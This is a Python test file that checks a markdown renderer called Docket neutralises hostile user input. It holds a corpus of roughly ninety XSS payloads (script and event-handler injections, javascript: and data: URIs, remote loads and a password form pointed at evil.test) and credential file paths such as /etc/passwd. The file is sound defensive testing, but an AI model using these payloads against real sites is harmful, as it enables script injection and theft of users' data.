"""P19, P23 (C3, C9, C28): what people write is shown as text; nothing runs, loads, or goes to an odd address."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lib.markdown import rendering

BENIGN = {"http", "https", "mailto", ""}
"""None is a link within Docket, such as /t/44."""
TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
    "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "target", "class", "align", "start", "tabindex"}

CORPUS = r"""
<script>alert(1)</script>
<SCRIPT SRC=http://evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="http://canary.test/pixel.png">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<link rel=stylesheet href="http://canary.test/x.css">
<style>@import 'http://canary.test/x.css';</style>
<div style="background:url(http://canary.test/x)">x</div>
<p style="position:fixed;inset:0">x</p>
<body onload=alert(1)>
<base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://evil.test">
<form action="http://evil.test"><input name=password></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.test" target=_self onclick=alert(1)>x</a>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<table background="javascript:alert(1)"><td background=x>y
<textarea><script>alert(1)</script>
</code><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](javascript&colon;alert(1))
[x](java%0ascript:alert(1))
[x](&#106;avascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml;base64,PHN2Zz4=)
[x](file:///etc/passwd)
[x](blob:http://evil.test/1)
[x](http://evil.test "onmouseover=alert(1)")
[x](http://evil.test" onmouseover="alert(1))
[a](<javascript:alert(1)>)
[x][r] and [r]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
![x](http://canary.test/pixel.png)
![x](javascript:alert(1))
![x][i] with [i]: http://canary.test/pixel.png
[![x](http://canary.test/p.png)](http://evil.test)
```html"><script>alert(1)</script>
`<img src=x onerror=alert(1)>`
> <script>alert(1)</script>
| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
$\href{javascript:alert(1)}{x}$
$$\includegraphics{http://canary.test/x.png}$$
:red[<img src=x onerror=alert(1)>] :material/delete: :rainbow[x]
&lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
＜script＞alert(1)＜/script＞
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
javascript:alert(1)
http://evil.test/"onmouseover="alert(1)
https://evil.test/<script>alert(1)</script>
www.evil.test/'onclick='alert(1)
mailto:a@example.org?body="><script>alert(1)</script>
ftp://evil.test/x
​<script>alert(1)</script>
‮<script>alert(1)</script>
""".strip().splitlines()  # noqa: PLE2502, PLE2515, RUF001 - hostile characters are the point


class Seen(HTMLParser):
    """What a browser would make of some HTML: its tags with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def harmless(html: str) -> Seen:
    """Fail on anything that could run, load or mislead."""
    seen = Seen(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS, (tag, html)
        assert set(attributes) <= ATTRIBUTES, (attributes, html)
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"]).scheme in BENIGN, html
            assert "noopener" in attributes["rel"]
            assert "noreferrer" in attributes["rel"]
        if "class" in attributes:
            assert tag == "code", html
    return seen


def test_the_corpus_is_large():
    assert len(set(CORPUS)) >= 60


@pytest.mark.parametrize("payload", CORPUS)
def test_p19_a_payload_is_harmless_alone_and_in_company(payload):
    """CVE-2018-1000154, CVE-2026-105456, CVE-2026-32754, CVE-2021-3945, CVE-2016-10515."""
    for source in (
        payload,
        f"Hello\n\n{payload}\n\nbye",
        f"- {payload}",
        f"> {payload}",
        f"**{payload}**",
        f"    {payload}",
    ):
        harmless(rendering.to_html(source.replace(r"\n", "\n")))


@given(st.lists(st.sampled_from(CORPUS) | st.text(max_size=20), max_size=4).map("\n".join))
@example("[x](http://a" + "(" * 1000)
@example("*" * 5000)
@example("> " * 2000)
@example("[" * 5000 + "](x)")
def test_p19_no_mixture_is_harmful(source):
    harmless(rendering.to_html(source))


@pytest.mark.parametrize(
    "body",
    ["/etc/passwd", "/etc/hostname", ".streamlit/secrets.toml", "C:\\Windows\\win.ini", "file:///etc/passwd"],
)
def test_p23_a_path_is_shown_as_the_text_it_is(body):
    """Finding F5: a mailer attached the file that a comment named."""
    seen = harmless(rendering.to_html(body))
    assert [tag for tag, _attributes in seen.tags] == ["p"]
    assert seen.text.strip() == body


def test_p23_a_stylesheet_link_is_text_and_loads_nothing():
    seen = harmless(rendering.to_html("<link rel=stylesheet href=http://canary.test/x.css>"))
    assert "stylesheet" in seen.text
    assert "link" not in {tag for tag, _attributes in seen.tags}


def test_what_people_write_on_purpose_is_kept():
    source = "# Title\n\n**bold** _soft_ ~~gone~~ `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[a](https://example.org)"
    tags = {tag for tag, _attributes in harmless(rendering.to_html(source)).tags}
    assert {"h1", "strong", "em", "s", "code", "ul", "li", "table", "th", "td", "a"} <= tags
    assert "<br" in rendering.to_html("one line\nand the next")
